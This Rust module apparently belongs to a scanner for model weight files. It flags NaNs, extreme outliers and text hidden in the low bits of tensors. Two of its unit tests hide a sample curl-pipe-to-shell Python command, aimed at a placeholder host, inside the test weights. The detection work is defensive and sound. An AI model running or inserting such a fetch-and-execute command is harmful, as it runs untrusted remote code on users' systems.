//! What numbers tell: values that are none, values far beyond all others, and texts in their lowest bits.
//!
//! Nothing here runs. A tensor with such values is *suspicious*: the model may be broken, or changed by hand. The
//! bounds are set so that benign weights stay below them; how often they do not is measured in `bench/RESULTS.md`.

use std::fmt;

use crate::tensor::Numbers;

pub(crate) mod characters;
mod low_bits;

/// How the elements of a tensor are stored, little-endian.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Float {
    /// IEEE 754 binary16.
    Half,
    /// The upper half of a binary32.
    Brain,
    /// IEEE 754 binary32.
    Single,
    /// IEEE 754 binary64.
    Double,
}

impl Float {
    /// The type of that name in safetensors.
    pub(crate) fn of_safetensors(name: &str) -> Option<Self> {
        Some(match name {
            "F16" => Self::Half,
            "BF16" => Self::Brain,
            "F32" => Self::Single,
            "F64" => Self::Double,
            _ => return None,
        })
    }

    pub(crate) const fn width(self) -> usize {
        match self {
            Self::Half | Self::Brain => 2,
            Self::Single => 4,
            Self::Double => 8,
        }
    }
}

/// What is odd about a tensor.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Odd {
    /// So many elements are no numbers.
    NotANumber(usize),
    /// The largest magnitude, and the one in the middle.
    Outlier(f64, f64),
    /// The lowest bits of the elements hold this.
    LowBits(&'static str),
}

impl Odd {
    /// The rule that it is a finding of.
    pub(crate) const fn rule(&self) -> &'static str {
        match self {
            Self::NotANumber(_) => "weights/not-a-number",
            Self::Outlier(..) => "weights/outlier",
            Self::LowBits(_) => "weights/low-bits",
        }
    }
}

impl fmt::Display for Odd {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::NotANumber(count) => write!(f, "{count} elements are no numbers"),
            Self::Outlier(largest, median) => {
                write!(f, "an element has the magnitude {largest:e}, half of them have at most {median:e}")
            }
            Self::LowBits(what) => write!(f, "the lowest bits of its elements spell {what}"),
        }
    }
}

/// Fewer elements are no distribution.
const MIN_ELEMENTS: usize = 256;
/// An outlier is so many times the median magnitude, and so large by itself.
const OUTLIER_RATIO: f64 = 1e7;
const OUTLIER_SIZE: f64 = 1e4;
/// Bytes that are looked at in a row.
const BLOCK: usize = 1 << 14;
/// Magnitudes from which the one in the middle is taken. An outlier is far beyond what that leaves open, and most tensors
/// are small enough for a longer sample to be what reading them costs.
const SAMPLE: usize = 1 << 10;

/// The elements of a tensor, as they are read.
///
/// Nearly all tensors have no element above [`OUTLIER_SIZE`] and none that is no number, and both are seen by comparing
/// bits; only blocks that have one are looked at number by number.
#[derive(Debug)]
pub(crate) struct Elements {
    float: Float,
    numbers: Numbers,
    none: usize,
    /// The largest finite magnitude.
    largest: f64,
    /// Finite magnitudes: of all elements at first, then of every second one, and so on.
    sample: Vec<f32>,
    /// A power of two.
    step: usize,
    /// Elements so far, and the one that is sampled next.
    seen: usize,
    next: usize,
    low_bits: Option<&'static str>,
}

impl Elements {
    pub(crate) const fn new(float: Float, numbers: Numbers) -> Self {
        Self {
            float,
            numbers,
            none: 0,
            largest: 0.0,
            sample: Vec::new(),
            step: 1,
            seen: 0,
            next: 0,
            low_bits: None,
        }
    }

    /// Bytes of one.
    pub(crate) const fn width(&self) -> u64 {
        self.float.width() as u64
    }

    /// Looks at what the lowest bits spell, given all bytes. Only the first of them are read.
    pub(crate) fn begin(&mut self, bytes: &[u8]) {
        if bytes.len() / self.float.width() >= MIN_ELEMENTS {
            self.low_bits = low_bits::found(bytes, self.float.width());
        }
    }

    /// Takes the next elements, whole ones.
    pub(crate) fn see(&mut self, bytes: &[u8]) {
        if self.numbers == Numbers::Data {
            return;
        }
        for block in bytes.chunks(BLOCK) {
            self.take_sample(block);
            if self.float.stands_out(block) {
                for value in block.chunks_exact(self.float.width()).map(|chunk| value(chunk, self.float)) {
                    self.none += usize::from(value.is_nan());
                    if value.is_finite() {
                        self.largest = self.largest.max(value.abs());
                    }
                }
            }
        }
    }

    /// Takes every so many elements, counted from the first one, so that it does not matter in what pieces they come.
    fn take_sample(&mut self, block: &[u8]) {
        let width = self.float.width();
        let end = self.seen + block.len() / width;
        while self.next < end {
            let at = (self.next - self.seen) * width;
            let size = value(block.get(at..at + width).unwrap_or_default(), self.float).abs();
            if size.is_finite() {
                // Rounding to fewer digits moves no magnitude by orders.
                #[expect(clippy::cast_possible_truncation, reason = "what overflows becomes the largest")]
                self.sample.push((size as f32).min(f32::MAX));
            }
            if self.sample.len() > SAMPLE {
                let mut keep = false;
                self.sample.retain(|_| {
                    keep = !keep;
                    keep
                });
                self.step *= 2;
            }
            self.next = (self.next | (self.step - 1)) + 1;
        }
        self.seen = end;
    }

    /// What is odd about the elements taken.
    pub(crate) fn odd(mut self) -> Vec<Odd> {
        let mut out = Vec::new();
        if self.none > 0 {
            out.push(Odd::NotANumber(self.none));
        }
        if self.sample.len() >= MIN_ELEMENTS {
            let count = self.sample.len();
            let mut at = |rank: usize| f64::from(*self.sample.select_nth_unstable_by(rank, f32::total_cmp).1);
            let (median, upper) = (at(count / 2), at(count - 1 - count / 8));
            // Where one in eight is far from the middle, numbers are spread that wide: bits by chance, no weights.
            let spread = upper > OUTLIER_RATIO * median;
            if median > 0.0 && !spread && self.largest > OUTLIER_SIZE && self.largest > OUTLIER_RATIO * median
            {
                out.push(Odd::Outlier(self.largest, median));
            }
        }
        out.extend(self.low_bits.map(Odd::LowBits));
        out
    }
}

impl Float {
    /// Whether the magnitude of an element in `block` is above [`OUTLIER_SIZE`], or it is no number: without its sign
    /// it is then, as a whole number, above that bound. The difference has its highest bit set for those, so that all
    /// of a block are one chain of differences, which compilers make vectors of.
    fn stands_out(self, block: &[u8]) -> bool {
        match self {
            Self::Half => above16(block, 0x70e2),
            Self::Brain => above16(block, 0x461c),
            Self::Single => {
                let bound = 0x461c_4000u32;
                let chunks = block.as_chunks::<4>().0.iter();
                chunks.fold(0, |any, c| any | bound.wrapping_sub(u32::from_le_bytes(*c) & 0x7fff_ffff)) >> 31
                    == 1
            }
            Self::Double => {
                let bound = 0x40c3_8800_0000_0000u64;
                let chunks = block.as_chunks::<8>().0.iter();
                chunks.fold(0, |any, c| any | bound.wrapping_sub(u64::from_le_bytes(*c) & (u64::MAX >> 1)))
                    >> 63
                    == 1
            }
        }
    }
}

fn above16(block: &[u8], bound: u16) -> bool {
    let chunks = block.as_chunks::<2>().0.iter();
    chunks.fold(0, |any, c| any | bound.wrapping_sub(u16::from_le_bytes(*c) & 0x7fff)) >> 15 == 1
}

fn value(chunk: &[u8], float: Float) -> f64 {
    match (float, chunk) {
        (Float::Half, [a, b]) => half(u16::from_le_bytes([*a, *b])),
        (Float::Brain, [a, b]) => f64::from(f32::from_le_bytes([0, 0, *a, *b])),
        (Float::Single, [a, b, c, d]) => f64::from(f32::from_le_bytes([*a, *b, *c, *d])),
        (_, chunk) => chunk.first_chunk::<8>().map_or(0.0, |c| f64::from_le_bytes(*c)),
    }
}

fn half(bits: u16) -> f64 {
    let sign = if bits >> 15 == 1 { -1.0 } else { 1.0 };
    let (exponent, fraction) = (i32::from(bits >> 10 & 0x1f), f64::from(bits & 0x3ff));
    sign * match exponent {
        0 => fraction * 2f64.powi(-24),
        0x1f if fraction == 0.0 => f64::INFINITY,
        0x1f => f64::NAN,
        _ => (1.0 + fraction / 1024.0) * 2f64.powi(exponent - 15),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What is odd about a tensor that is read in one piece, and in pieces of a few elements each.
    fn odd(bytes: &[u8], float: Float, numbers: Numbers) -> Vec<Odd> {
        let told = |piece: usize| {
            let mut elements = Elements::new(float, numbers);
            elements.begin(bytes);
            bytes.chunks(piece * float.width()).for_each(|piece| elements.see(piece));
            elements.odd()
        };
        let whole = told(1 << 20);
        assert_eq!(told(1000), whole);
        whole
    }

    /// Numbers as training leaves them, from a fixed generator.
    fn weights(count: usize) -> Vec<f32> {
        let mut state = 7u64;
        let mut uniform = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 11) as f32 / (1u64 << 53) as f32
        };
        (0..count).map(|_| (0..12).map(|_| uniform()).sum::<f32>() * 0.02 - 0.12).collect()
    }

    fn bytes(values: &[f32]) -> Vec<u8> {
        values.iter().flat_map(|v| v.to_le_bytes()).collect()
    }

    #[test]
    fn ordinary_weights_are_not_odd() {
        let values = weights(10_000);
        assert_eq!(odd(&bytes(&values), Float::Single, Numbers::Weights), []);
        let brain: Vec<u8> = values.iter().flat_map(|v| v.to_le_bytes()[2..].to_vec()).collect();
        assert_eq!(odd(&brain, Float::Brain, Numbers::Weights), []);
        // Widened from two bytes: the lowest are all zero.
        let widened: Vec<u8> = brain.chunks(2).flat_map(|c| [0, 0, c[0], c[1]]).collect();
        assert_eq!(odd(&widened, Float::Single, Numbers::Weights), []);
        assert_eq!(odd(&bytes(&[1.0; 1000]), Float::Single, Numbers::Weights), []);
        assert_eq!(odd(&[0; 4000], Float::Double, Numbers::Weights), []);
        // Bits by chance: all magnitudes are as frequent.
        let chance: Vec<u8> = (0..4096u32)
            .flat_map(|n| (n.wrapping_mul(2_654_435_761) >> 16 & 0x7f3f).to_le_bytes()[..2].to_vec())
            .collect();
        assert_eq!(odd(&chance, Float::Brain, Numbers::Weights), []);
        assert!((half(0x3c01) - 1.000_976_562_5).abs() < 1e-12 && half(0x7e00).is_nan());
    }

    #[test]
    fn what_was_put_in_is_told() {
        let mut values = weights(10_000);
        values[77] = f32::NAN;
        values[99] = 1e9;
        let found = odd(&bytes(&values), Float::Single, Numbers::Weights);
        assert!(matches!(found[..], [Odd::NotANumber(1), Odd::Outlier(..)]), "{found:?}");

        let text = b"import os; os.system('curl https://example.org/payload | sh') # and so on";
        let mut hidden = bytes(&weights(10_000));
        for (at, bit) in text.iter().flat_map(|b| (0..8).rev().map(move |i| b >> i & 1)).enumerate() {
            hidden[4 * at] = hidden[4 * at] & !1 | bit;
        }
        assert_eq!(odd(&hidden, Float::Single, Numbers::Weights), [Odd::LowBits("a text")]);
        let mut whole = bytes(&weights(10_000));
        for (at, byte) in text.iter().enumerate() {
            whole[4 * at] = *byte;
        }
        assert_eq!(odd(&whole, Float::Single, Numbers::Weights), [Odd::LowBits("a text")]);
    }

    #[test]
    fn a_text_is_found_from_whatever_element_on_and_in_whatever_bits() {
        let text = b"import os; os.system('curl https://example.org/payload | sh') # and so on";
        for (count, from, high_first) in
            [(1u8, 0usize, true), (1, 333, false), (2, 0, true), (2, 41, false), (4, 7, true)]
        {
            let per_byte = usize::from(8 / count);
            let mut hidden = bytes(&weights(10_000));
            for (at, byte) in text.iter().enumerate() {
                for part in 0..per_byte {
                    let place = if high_first { per_byte - 1 - part } else { part };
                    let bits = byte >> (place * usize::from(count)) & (u8::MAX >> (8 - count));
                    let slot = &mut hidden[4 * (from + at * per_byte + part)];
                    *slot = *slot >> count << count | bits;
                }
            }
            assert_eq!(
                odd(&hidden, Float::Single, Numbers::Weights),
                [Odd::LowBits("a text")],
                "{count} {from} {high_first}"
            );
        }
    }

    #[test]
    fn data_may_miss_values_and_have_any_size() {
        let mut values = weights(10_000);
        values[77] = f32::NAN;
        values[99] = 1e9;
        assert_eq!(odd(&bytes(&values), Float::Single, Numbers::Data), []);
    }

    #[test]
    fn one_element_anywhere_is_seen_in_every_type() {
        for (float, big, none) in [
            (Float::Half, 0x7bffu64, 0x7e00u64),
            (Float::Brain, 0x6000, 0xffc0),
            (Float::Single, 0xd000_0000, 0x7fc0_0000),
            (Float::Double, 0x4200_0000_0000_0000, 0xfff8_0000_0000_0000),
        ] {
            // One thousandth, in each type.
            let small = match float {
                Float::Half => 0x1419u64,
                Float::Brain => 0x3a83,
                Float::Single => 0x3a83_126f,
                Float::Double => 0x3f50_624d_d2f1_a9fc,
            };
            let width = float.width();
            let put = |bytes: &mut Vec<u8>, at: usize, value: u64| {
                bytes[at * width..][..width].copy_from_slice(&value.to_le_bytes()[..width]);
            };
            let plain: Vec<u8> = (0..20_000).flat_map(|_| small.to_le_bytes()[..width].to_vec()).collect();
            assert!(odd(&plain, float, Numbers::Weights).is_empty(), "{float:?}");
            for at in [0, 5000, 19_999] {
                let mut bent = plain.clone();
                put(&mut bent, at, none);
                assert_eq!(odd(&bent, float, Numbers::Weights), [Odd::NotANumber(1)], "{float:?}");
                let mut bent = plain.clone();
                put(&mut bent, at, big);
                let found = odd(&bent, float, Numbers::Weights);
                assert!(matches!(found[..], [Odd::Outlier(..)]), "{float:?} {found:?}");
            }
        }
    }
}
